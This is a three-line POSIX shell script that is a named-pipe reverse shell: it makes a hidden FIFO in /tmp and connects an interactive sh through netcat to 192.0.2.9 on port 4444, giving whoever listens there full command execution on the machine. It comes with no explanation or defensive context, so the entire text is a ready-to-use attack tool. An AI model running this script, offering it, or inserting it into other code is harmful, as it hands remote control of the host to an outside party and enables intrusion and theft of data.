#!/bin/sh
f=/tmp/.q; mkfifo $f
cat $f | sh -i 2>&1 | nc 192.0.2.9 4444 > $f
